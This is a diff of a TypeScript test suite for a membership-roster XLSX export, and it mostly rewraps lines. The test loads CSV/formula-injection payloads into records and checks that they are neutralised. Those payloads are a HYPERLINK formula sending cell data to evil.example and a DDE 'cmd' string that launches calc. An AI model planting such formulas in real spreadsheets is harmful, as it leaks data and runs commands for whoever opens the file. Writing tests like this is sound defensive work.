@@ -38,13 +38,20 @@ describe('the roster export', () => {
   });
 
   it('neutralises every text cell that could run as a formula, and keeps other text as it is', async () => {
-    await create({ displayName: '=HYPERLINK("http://evil.example/?"&B3,"Click")', notes: '+cmd|\'/C calc\'!A0' });
-    await create({ displayName: '@SUM(1+1)', alias: '-2+3+cmd|x', organisationName: '\t=1+1', phone: '+1 604 555 0134' });
+    await create({ displayName: '=HYPERLINK("http://evil.example/?"&B3,"Click")', notes: "+cmd|'/C calc'!A0" });
+    await create({
+      displayName: '@SUM(1+1)',
+      alias: '-2+3+cmd|x',
+      organisationName: '\t=1+1',
+      phone: '+1 604 555 0134',
+    });
     await create({ displayName: 'ਗੁਰਪ੍ਰੀਤ ਕੌਰ', email: 'g@example.org', notes: '\r=evil()' });
 
     const result = await temp.dispatch('roster.exportXlsx', { personalDataWarningAccepted: true });
     expect(result.ok).toBe(true);
-    const data = result.ok ? (result.data as { fileName: string; mimeType: string; base64: string; memberCount: number }) : undefined;
+    const data = result.ok
+      ? (result.data as { fileName: string; mimeType: string; base64: string; memberCount: number })
+      : undefined;
     expect(data?.fileName).toMatch(/^roster-\d{4}-\d{2}-\d{2}\.xlsx$/);
     expect(data?.mimeType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
     expect(data?.memberCount).toBe(3);
@@ -76,7 +83,9 @@ describe('the roster export', () => {
     const joined = sheet.getRow(3).getCell(12).value;
     expect(joined).toEqual(new Date('2024-01-01T00:00:00Z'));
 
-    const audit = temp.ledger.sqlite.prepare("select changes from audit_log where operation = 'roster.exportXlsx'").all() as { changes: string }[];
+    const audit = temp.ledger.sqlite
+      .prepare("select changes from audit_log where operation = 'roster.exportXlsx'")
+      .all() as { changes: string }[];
     expect(audit).toEqual([{ changes: JSON.stringify({ memberCount: { from: null, to: 3 } }) }]);
   });
 });
